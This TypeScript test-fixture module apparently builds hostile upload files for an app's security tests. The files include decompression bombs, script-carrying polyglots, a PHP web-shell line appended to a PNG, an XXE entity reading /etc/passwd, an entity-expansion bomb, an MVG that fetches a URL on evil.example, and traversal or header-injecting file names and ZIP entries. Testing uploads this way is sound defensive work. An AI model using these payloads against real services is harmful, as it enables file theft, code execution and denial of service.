import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { crc32, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { type ZippedFile, zipFile } from "#tests/helpers/zip-file.ts";
import { hostileWorkbooks } from "./hostile-workbooks.ts";

export type HostileFile = {
  what: string;
  name: string;
  bytes: Buffer;
  /** No address may take it: there is nothing harmless to keep of it. */
  isAlwaysRefused?: boolean;
};

/** Stands in every file that carries something to run: found in what is kept, it came through. */
export const MARK = "ZQ-HOSTILE-ZQ";
const script = `<script>/*${MARK}*/alert(7)</script>`;

/** Files made to hurt: to fill memory, to be taken for something else, to be kept under a bad name. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const create = { width: 64, height: 48, channels: 3 as const, background: "#204080" };
  // Not as we would pack it: what is kept must be other bytes than what came.
  const png = await sharp({ create }).png({ compressionLevel: 0 }).toBuffer();
  const jpeg = await sharp({ create }).jpeg().toBuffer();
  const webp = await sharp({ create }).webp().toBuffer();
  const avif = await sharp({ create }).avif({ effort: 0 }).toBuffer();
  const gif = await sharp({ create }).gif().toBuffer();
  const tiff = await sharp({ create }).tiff().toBuffer();
  const pdf = Buffer.from(`%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n`);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)">${script}</svg>`;
  const frames = await sharp(Buffer.alloc(64 * 48 * 40 * 3, 9), {
    raw: { width: 64, height: 48 * 40, channels: 3 },
  })
    .webp({ loop: 0 })
    .toBuffer();
  const picture = (what: string, bytes: Buffer, name = "a.png"): HostileFile => ({
    what,
    name,
    bytes,
  });
  const sheet = (what: string, bytes: Buffer, name = "a.pdf"): HostileFile => ({
    what,
    name,
    bytes,
  });
  const both = (what: string, bytes: Buffer | string, name = "a.png"): HostileFile => ({
    what,
    name,
    bytes: Buffer.from(bytes as string),
  });
  const names = [
    "../../../../etc/cron.d/x.png",
    "..\\..\\windows\\x.png",
    "%2e%2e%2f%2e%2e%2fx.png",
    "a\u0000.html.png",
    "\u202egnp.exe",
    "CON.png",
    "nul",
    ".htaccess",
    "a.php.png",
    "x".repeat(5000),
    "a\r\nSet-Cookie: x=1.png",
    'a".png; filename="b.html',
    "-rf *.png",
    "https://evil.example/a.png",
    `${script}.png`,
    "\ud83d\udca3\u0301\u0301\u0301.png",
  ];
  return [
    // Made to fill memory.
    picture("30 000 x 30 000 pixels of nothing", pngOf(30_000, 30_000, 1, 0)),
    picture("65 535 x 65 535 claimed", pngHead(65_535, 65_535)),
    picture("2 147 483 647 wide", pngHead(2_147_483_647, 1)),
    picture("no pixels at all", pngHead(0, 0)),
    picture("50 000 001 pixels", pngOf(50_000_001, 1, 1, 0)),
    picture("7000 x 7000 in true colour, just allowed", pngOf(7000, 7000, 8, 2)),
    picture("one pixel high, very wide", pngOf(200_000, 1, 8, 2)),
    picture(
      "a colour profile that unpacks to 300 MB",
      withChunk(
        png,
        "iCCP",
        Buffer.concat([Buffer.from("x\0\0"), deflateSync(Buffer.alloc(300_000_000))]),
      ),
    ),
    picture(
      "a comment that unpacks to 300 MB",
      withChunk(
        png,
        "zTXt",
        Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(Buffer.alloc(300_000_000))]),
      ),
    ),
    picture("200 000 empty chunks", manyChunks(png, 200_000)),
    picture("a JPEG that claims 65 500 x 65 500", jpegClaiming(jpeg, 65_500, 65_500)),
    picture("a WebP that claims 16 383 x 16 383", webpClaiming(webp)),
    picture("40 frames", frames),
    picture("a picture that moves", animated(png)),
    picture("4 000 scans of a JPEG", manyScans(jpeg, 4000)),
    picture(
      "50 MB of noise behind a head",
      Buffer.concat([png.subarray(0, 40), Buffer.alloc(50 * 1024 * 1024 - 40, 0xa5)]),
    ),
    both("one byte more than 50 MB", Buffer.alloc(50 * 1024 * 1024 + 1, 1)),
    // Cut short or broken.
    ...[0.1, 0.5, 0.9].map((part) =>
      picture(`a PNG cut off at ${part}`, png.subarray(0, png.length * part)),
    ),
    picture("a JPEG cut off", jpeg.subarray(0, jpeg.length / 2)),
    picture("a WebP cut off", webp.subarray(0, webp.length / 2)),
    picture("an AVIF cut off", avif.subarray(0, avif.length / 2)),
    picture(
      "a wrong checksum",
      Buffer.from(png.map((byte, at) => (at === 30 ? byte ^ 255 : byte))),
    ),
    picture("only the first bytes of a PNG", png.subarray(0, 8)),
    sheet("a PDF without its end", pdf.subarray(0, 20)),
    both("nothing", ""),
    both("one byte", "P"),
    // Two things at once.
    picture("a JPEG with a page in its comment", jpegWithComment(jpeg, script)),
    picture(
      "a PNG with a script in its text",
      withChunk(png, "tEXt", Buffer.from(`Title\0${script}`)),
    ),
    picture(
      "a PNG with a script in its XMP",
      withChunk(png, "iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${script}`)),
    ),
    picture(
      "a PNG with PHP behind it",
      Buffer.concat([png, Buffer.from(`<?php /*${MARK}*/ system($_GET[0]);`)]),
    ),
    picture("a PNG with a zip behind it", Buffer.concat([png, Buffer.from(`PK\x03\x04${MARK}`)])),
    picture("a WebP with a page behind it", Buffer.concat([webp, Buffer.from(script)])),
    picture("an AVIF with a page behind it", Buffer.concat([avif, Buffer.from(script)])),
    both("a GIF that is a script", `GIF89a/*${MARK}*/=0;alert(7)//`),
    // Something else under a picture's or a datasheet's name.
    both("an SVG with a script", svg, "a.svg"),
    both("an SVG called PNG", svg, "a.png"),
    both("a packed SVG", gzipSync(svg), "a.svgz"),
    both("a page called PNG", `<!doctype html>${script}`, "a.png"),
    both("a page in UTF-16", Buffer.from(`\ufeff<html>${script}`, "utf16le"), "a.png"),
    both(
      "XML that reads a file",
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;${MARK}</svg>`,
    ),
    both(
      "XML that unfolds without end",
      `<!DOCTYPE l [<!ENTITY a "${MARK}"><!ENTITY b "${"&a;".repeat(50)}"><!ENTITY c "${"&b;".repeat(50)}">]><svg>&c;</svg>`,
    ),
    both(
      "a drawing that fetches",
      `push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://evil.example/${MARK})'\npop graphic-context`,
      "a.mvg",
    ),
    both("a program", `MZ${MARK}`, "a.exe"),
    both("another program", `\x7fELF${MARK}`, "a"),
    both("PostScript", `%!PS-Adobe-3.0 EPSF-3.0\n% ${MARK}\nsystemdict`, "a.eps"),
    both("a zip", `PK\x03\x04${MARK}`, "a.zip"),
    sheet("a zip called PDF", Buffer.from(`PK\x03\x04${MARK}`)),
    sheet("a page called PDF", Buffer.from(`<html>${script}%PDF-1.7 %%EOF`)),
    sheet("a picture called PDF", png),
    picture("a PDF called PNG", pdf),
    picture("a GIF", gif, "a.gif"),
    picture("a TIFF", tiff, "a.tif"),
    both("a bitmap", `BM${MARK}`, "a.bmp"),
    both("an icon", `\0\0\x01\0\x01\0${MARK}`, "a.ico"),
    both("a Photoshop file", `8BPS\0\x01${MARK}`, "a.psd"),
    both("a film", `\0\0\0\x18ftypmp42${MARK}`, "a.mp4"),
    both("an iPhone's HEIC", `\0\0\0\x18ftypheic\0\0\0\0mif1heic${MARK}`, "a.heic"),
    // A picture, under a name that should lead it elsewhere.
    ...names.map((name) =>
      picture(`a picture called ${JSON.stringify(name.slice(0, 40))}`, png, name),
    ),
  ];
}

function pngHead(width: number, height: number, depth = 8, colour = 2): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([depth, colour, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", head),
    chunk("IDAT", deflateSync(Buffer.alloc(1000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A whole picture, all of one colour: small on the way, large when it is unpacked. */
function pngOf(width: number, height: number, depth: number, colour: number): Buffer {
  const row = 1 + Math.ceil((width * depth * (colour === 2 ? 3 : 1)) / 8);
  const packed = deflateSync(Buffer.alloc(row * height));
  const empty = pngHead(width, height, depth, colour);
  return Buffer.concat([
    empty.subarray(0, 33),
    chunk("IDAT", packed),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)]);
}

function manyChunks(png: Buffer, count: number): Buffer {
  const one = chunk("tEXt", Buffer.from("a\0b"));
  return Buffer.concat([png.subarray(0, 33), ...Array<Buffer>(count).fill(one), png.subarray(33)]);
}

function animated(png: Buffer): Buffer {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(1000, 0);
  return withChunk(png, "acTL", control);
}

function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const claimed = Buffer.from(jpeg);
  const at = claimed.indexOf(Buffer.from([0xff, 0xc0]));
  claimed.writeUInt16BE(height, at + 5);
  claimed.writeUInt16BE(width, at + 7);
  return claimed;
}

function jpegWithComment(jpeg: Buffer, text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(text),
    jpeg.subarray(2),
  ]);
}

/** The same scan again and again: each is a pass over the whole picture. */
function manyScans(jpeg: Buffer, count: number): Buffer {
  const at = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  const scan = jpeg.subarray(at, -2);
  return Buffer.concat([
    jpeg.subarray(0, at),
    ...Array<Buffer>(count).fill(scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

function webpClaiming(webp: Buffer): Buffer {
  const claimed = Buffer.from(webp);
  const at = claimed.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
  if (at > 0) claimed.writeUInt32LE(0x3fff3fff, at + 3);
  return claimed;
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

const MEGABYTE = 1024 * 1024;

/** PDFs, small pictures that unpack to the largest allowed, and CSV files that keep a parser busy. */
export async function hostileDocuments(): Promise<HostileFile[]> {
  return [
    ...hostilePdfs(),
    ...(await smallFilesOfManyPixels()),
    ...hostileSheets(),
    ...hostileZips(),
    ...hostileWorkbooks().map(({ what, bytes }) => ({ what, bytes, name: "a.xlsx" })),
    ...hostileVideos(),
  ];
}

/** The one that blocked the process for seven seconds. */
export function pdfOfNumberSigns(): HostileFile {
  return pdf("a PDF of 10 MB of #2F", "#2F", 10 * MEGABYTE);
}

function hostilePdfs(): HostileFile[] {
  const bomb = deflateSync(Buffer.alloc(300 * MEGABYTE));
  const stream = Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Filter/FlateDecode/Length ${bomb.length}>>\nstream\n`),
    bomb,
    Buffer.from("\nendstream\nendobj\n%%EOF\n"),
  ]);
  return [
    pdfOfNumberSigns(),
    pdf("a PDF of slashes", "/", 10 * MEGABYTE),
    pdf("a PDF of encoded slashes in names", "/#2F", 10 * MEGABYTE),
    pdf("a PDF of names that are almost JavaScript", "/JavaScrip", 10 * MEGABYTE),
    pdf("the same in numbers", "/#4a#61#76#61#53#63#72#69#70", 10 * MEGABYTE),
    pdf("a PDF of number signs alone", "#", 10 * MEGABYTE),
    pdf("a PDF of names inside names", "/A#2FB#2FC<<", 10 * MEGABYTE),
    pdf("a PDF of 50 MB of #2F", "#2F", 50 * MEGABYTE),
    pdf("a PDF that runs a script", "/S/J#61vaScript/JS(app.alert(7))", 1000),
    { what: "a PDF that unpacks to 300 MB", name: "a.pdf", bytes: stream },
  ];
}

function pdf(what: string, part: string, size: number): HostileFile {
  const [head, end] = ["%PDF-1.7\n", "\n%%EOF\n"];
  const count = Math.floor((size - head.length - end.length) / part.length);
  return { what, name: "a.pdf", bytes: Buffer.from(head + part.repeat(count) + end) };
}

async function smallFilesOfManyPixels(): Promise<HostileFile[]> {
  const plain = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: "#204080" } });
  const noise = { type: "gaussian", mean: 128, sigma: 60 } as const;
  const noisy = sharp({
    create: { width: 1600, height: 1200, channels: 3, background: "#204080", noise },
  });
  return [
    ["a PNG of 49 megapixels", "a.png", await plain(7000, 7000).png().toBuffer()],
    ["a JPEG of 49 megapixels", "a.jpg", await plain(7000, 7000).jpeg().toBuffer()],
    ["a progressive one", "a.jpg", await plain(7000, 7000).jpeg({ progressive: true }).toBuffer()],
    ["a WebP of 49 megapixels", "a.webp", await plain(7000, 7000).webp({ effort: 0 }).toBuffer()],
    ["an AVIF of 20 megapixels", "a.avif", await plain(5000, 4000).avif({ effort: 0 }).toBuffer()],
    ["an AVIF of 36 megapixels", "a.avif", await plain(6000, 6000).avif({ effort: 0 }).toBuffer()],
    ["an interlaced PNG of noise", "a.png", await noisy.png({ progressive: true }).toBuffer()],
  ].map(([what, name, bytes]) => ({ what, name, bytes }) as HostileFile);
}

function hostileSheets(): HostileFile[] {
  const head = "id,name,description,price,stock,category\n";
  const sheet = (what: string, start: string, part: string, end = ""): HostileFile => {
    const count = Math.floor((20 * MEGABYTE - start.length - end.length) / part.length);
    return { what, name: "a.csv", bytes: Buffer.from(start + part.repeat(count) + end) };
  };
  const row = `,Name,${"d".repeat(950)},100.00,4,Nowhere\n`;
  return [
    { what: "20 000 rows, 20 MB", name: "a.csv", bytes: Buffer.from(head + row.repeat(20_000)) },
    sheet("a CSV of 20 MB in one line of commas", "id,", ","),
    sheet("20 million empty lines", head, "\n"),
    sheet("10 million rows", head, "a\n"),
    sheet("a quote that is never closed", `${head}"`, "a"),
    sheet("20 MB of doubled quotes", `${head}"`, '""', '"\n'),
    sheet("20 MB of carriage returns", head, "\r"),
    sheet("one cell of 20 MB", `${head},"`, "a\n", '"\n'),
    sheet("20 MB that are no UTF-8", head, "\u00e9,", "\n"),
    {
      what: "UTF-16",
      name: "a.csv",
      bytes: Buffer.from(`\ufeff${head}${"x".repeat(5e6)}`, "utf16le"),
    },
  ];
}

function hostileZips(): HostileFile[] {
  const zip = (what: string, files: ZippedFile[]) => ({
    what,
    name: "a.zip",
    bytes: zipFile(files),
  });
  const marked = Buffer.from(MARK);
  const zeros = Buffer.alloc(100 * MEGABYTE);
  const many = Array.from({ length: 60_000 }, (_, n) => ({ name: `${n}.png`, bytes: marked }));
  const picture = Buffer.concat([pngHead(100, 100), randomBytes(50_000)]);
  const overlapping = Array.from({ length: 1999 }, (_, n) => ({
    name: `${String(n).padStart(4, "0")}.png`,
    bytes: picture,
    isShared: n > 0,
  }));
  return [
    zip("a ZIP bomb of 100 MB", [{ name: "a.png", bytes: zeros }]),
    zip("a ZIP bomb that says 10 bytes", [{ name: "a.png", bytes: zeros, claims: { size: 10 } }]),
    zip("a ZIP of 60 000 files", many),
    { ...zip("1 999 pictures of the same bytes", overlapping), isAlwaysRefused: true },
    zip("a ZIP of names that lead elsewhere", [
      { name: "../../../../tmp/zq.png", bytes: marked },
      { name: "/etc/zq.png", bytes: marked },
      { name: "C:\\zq.png", bytes: marked },
    ]),
  ];
}

/** Films that are something else, or keep the reader of their structure busy. */
function hostileVideos(): HostileFile[] {
  const folder = "app/pages/projects/media/load-watch-glance";
  const [mp4, webm] = [readFileSync(`${folder}.mp4`), readFileSync(`${folder}.webm`)];
  const hex = (text: string) => Buffer.from(text, "hex");
  const fill = (start: Buffer, part: string) =>
    Buffer.concat([start, Buffer.alloc(50 * MEGABYTE - start.length, hex(part))]);
  const webmHead = hex("1a45dfa3874282847765626d1853806701ffffffffffffff");
  const films: [string, string, Buffer | string][] = [
    ["the first bytes of an MP4 and a page", "a.mp4", `\0\0\0\x18ftypmp42${script}`],
    ["the first bytes of a WebM and a page", "a.webm", `\x1aE\xdf\xa3\x87B\x82\x84webm${script}`],
    ["an MP4 with a page behind it", "a.mp4", Buffer.concat([mp4, Buffer.from(script)])],
    ["a WebM with a page behind it", "a.webm", Buffer.concat([webm, Buffer.from(script)])],
    ["an MP4 cut off", "a.mp4", mp4.subarray(0, mp4.length / 2)],
    ["a WebM cut off", "a.webm", webm.subarray(0, webm.length / 2)],
    ["an MP4 of 6 million boxes", "a.mp4", fill(hex("0000000866747970"), "0000000866726565")],
    ["boxes that all reach to the end", "a.mp4", fill(hex("0000000866747970"), "000000006d6f6f76")],
    ["a WebM of 26 million elements", "a.webm", fill(webmHead, "ec80")],
    ["a WebM of 50 MB of zeros", "a.webm", fill(webmHead, "00")],
  ];
  return films.map(([what, name, content]) => ({
    what,
    name,
    bytes: typeof content === "string" ? Buffer.from(content, "latin1") : content,
    isAlwaysRefused: true,
  }));
}
